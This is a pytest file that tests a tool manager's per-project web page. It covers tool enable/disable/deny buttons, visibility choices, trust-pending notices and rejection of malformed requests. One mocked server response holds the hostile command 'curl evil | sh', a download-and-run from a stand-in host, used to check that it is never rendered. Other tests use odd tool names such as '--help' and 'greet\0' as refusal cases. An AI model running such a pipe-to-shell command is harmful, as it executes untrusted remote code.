"""A project's own page at a running manager, and the buttons that change its tools."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from unittest.mock import create_autospec

import aiohttp
import pytest

from lm_tools_bridge.page import project_fragments as fragments
from lm_tools_bridge.page.project_selection import Projects
from manager.admin.control.control_plane import ControlPlane
from manager.admin.control.project_command import ServerCommand
from support.clients.page_client import opened, posted
from support.clients.raw_clients import SessionClient
from support.processes.managers.manager_in_process import RunningManager, make_project, manager_paths
from support.projects.script_tools import write_tool

pytestmark = pytest.mark.processes


async def project_page(manager: RunningManager, http: aiohttp.ClientSession, root: Path) -> str:
    """The project's page, found by the link on the first page."""
    async with http.get(f"{manager.base}/mcp/status") as response:
        rows = (await response.json())["workspaceDetails"]
    identity = next(row["id"] for row in rows if row["root"] == str(root))
    async with http.get(f"{manager.base}/?format=html") as response:
        assert f'href="/page/project?id={identity}"' in await response.text()
    async with http.get(f"{manager.base}/page/project", params={"id": identity}) as response:
        assert response.status == 200
        assert response.headers["Content-Security-Policy"].startswith("default-src 'none';")
        return await response.text()


@pytest.fixture
async def shop(manager: RunningManager, http: aiohttp.ClientSession, tmp_path: Path) -> Path:
    """A project with a running server, a tool of the user, and a server that waits for trust."""
    write_tool(tmp_path / "manager" / "config" / "tools", "greet")
    servers = {"mcpServers": {"db": {"command": "false"}}}
    project = make_project(tmp_path / "shop", **{".mcp.json": json.dumps(servers)})
    client = await SessionClient.connect(http, f"{manager.address}?cwd={project}")
    await client.call("greet")
    return project


async def changed(
    manager: RunningManager, http: aiohttp.ClientSession, root: Path, tool: str, change: str
) -> dict[str, Any]:
    proof = await opened(manager, http)
    message = {"action": "set-tool", "root": str(root), "tool": tool, "change": change}
    code, answer = await posted(http, f"{manager.base}/page/action", message, {"X-Page-Proof": proof})
    assert code == 200
    return answer


async def test_it_shows_tools_with_cost_and_what_waits_for_trust(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path
) -> None:
    html = await project_page(manager, http, shop)
    assert "<strong>greet</strong>" in html
    assert "tokens in a model" in html
    assert "Waits for your trust" in html
    assert f"lmtb trust {shop}" in html
    assert re.search(r"<pre>[^<]*\+written\.command = [^<]*false", html), "the difference"


async def test_an_unknown_project_is_not_found(manager: RunningManager, http: aiohttp.ClientSession) -> None:
    for query in ("", "?id=none", "?id=%00"):
        async with http.get(f"{manager.base}/page/project{query}") as response:
            assert response.status == 404
            assert "No such project" in await response.text()


async def test_reading_asks_no_server_that_does_not_run(tmp_path: Path) -> None:
    known = {"id": "quiet-1", "root": str(make_project(tmp_path / "quiet")), "state": "stopped"}
    command = ServerCommand(manager_paths(tmp_path / "user"), lambda: None)
    services = create_autospec(ControlPlane, instance=True)
    view = await Projects(services, lambda: {"workspaceDetails": [known]}, command).view("quiet-1")
    assert view is not None
    assert view.problem == "Its server does not run. It starts with the next request from the folder."
    services.ask_server.assert_not_called()


async def test_what_waits_for_trust_on_another_host_is_shown_by_the_command(tmp_path: Path) -> None:
    far = {"id": "far-1", "root": "ssh://build/srv/app", "state": "ready"}
    status = {"workspaceDetails": [far], "instanceDetails": [{"workspace": "far-1", "owner": "remote"}]}
    services = create_autospec(ControlPlane, instance=True)
    services.ask_server.return_value = (
        b'{"ok":true,"issues":[{"code":"TRUST_PENDING","details":"curl evil | sh"}]}'
    )
    command = create_autospec(ServerCommand, instance=True)
    view = await Projects(services, lambda: status, command).view("far-1")
    assert view is not None
    assert view.waiting is not None
    assert (view.waiting.command, view.waiting.changes) == ("lmtb trust ssh://build/srv/app", ())
    assert "curl" not in fragments.project_page(view)
    services.ask_server.assert_awaited_once_with("ssh://build/srv/app", "inspect", None, starts=False)
    command.differences.assert_not_called()


async def test_a_tool_is_disabled_and_enabled_again(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path
) -> None:
    answer = await changed(manager, http, shop, "greet", "disable")
    assert answer["ok"], answer
    assert "greet is disabled" in answer["text"]
    assert 'aria-label="Enable greet"' in await project_page(manager, http, shop)
    answer = await changed(manager, http, shop, "greet", "enable")
    assert answer["ok"], answer
    assert 'aria-label="Disable greet"' in await project_page(manager, http, shop)


async def test_a_denied_tool_is_not_called(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path
) -> None:
    answer = await changed(manager, http, shop, "greet", "deny")
    assert "greet never runs" in answer["text"]
    client = await SessionClient.connect(http, f"{manager.address}?cwd={shop}")
    assert "approval_denied" in json.dumps((await client.call("greet")).message)
    assert 'aria-label="Allow greet"' in await project_page(manager, http, shop)


async def chosen(
    manager: RunningManager, http: aiohttp.ClientSession, root: Path, **members: str
) -> dict[str, Any]:
    proof = await opened(manager, http)
    message = {"action": "set-visibility", "root": str(root), **members}
    code, answer = await posted(http, f"{manager.base}/page/action", message, {"X-Page-Proof": proof})
    assert code == 200
    return answer


async def test_the_visibility_of_a_tool_and_of_a_source_is_chosen(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path
) -> None:
    answer = await chosen(manager, http, shop, tool="greet", visibility="ondemand")
    assert answer["ok"], answer
    assert "greet is not listed, but found with tool_search" in answer["text"]
    assert "on demand (yours)" in await project_page(manager, http, shop)
    answer = await chosen(manager, http, shop, tool="greet", visibility="default")
    assert "greet is listed as its source says" in answer["text"]
    answer = await chosen(manager, http, shop, source="builtin", visibility="always")
    assert "What builtin offers is always listed" in answer["text"]
    assert "always listed (yours, for its source)" in await project_page(manager, http, shop)


@pytest.mark.parametrize(
    "members",
    [
        {"tool": "nobody", "visibility": "always"},
        {"tool": "greet", "visibility": "hidden"},
        {"source": "stdio:none", "visibility": "always"},
        {"visibility": "always"},
        {"tool": "greet"},
    ],
)
async def test_a_visibility_of_nothing_is_not_chosen(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path, members: dict[str, str]
) -> None:
    answer = await chosen(manager, http, shop, **members)
    assert answer["ok"] is False
    assert "reload the page" in answer["text"]
    assert not (manager.paths.config_dir / "workspace.toml").exists()


@pytest.mark.parametrize(
    ("tool", "change"), [("--help", "disable"), ("greet", "remove"), ("greet\0", "deny"), ("nobody", "deny")]
)
async def test_unknown_tools_and_changes_are_refused(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path, tool: str, change: str
) -> None:
    answer = await changed(manager, http, shop, tool, change)
    assert answer["ok"] is False
    assert "reload the page" in answer["text"]


@pytest.mark.always
async def test_nothing_is_written_outside_a_known_project(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path
) -> None:
    inside = shop / "src"
    inside.mkdir()
    answer = await changed(manager, http, inside, "greet", "disable")
    assert answer["ok"] is False
    assert list(inside.iterdir()) == []


@pytest.mark.always
async def test_a_page_without_a_session_changes_nothing(
    manager: RunningManager, http: aiohttp.ClientSession, shop: Path
) -> None:
    message = {"action": "set-tool", "root": str(shop), "tool": "greet", "change": "disable"}
    code, _ = await posted(http, f"{manager.base}/page/action", message)
    assert code == 403
    assert 'aria-label="Disable greet"' in await project_page(manager, http, shop)
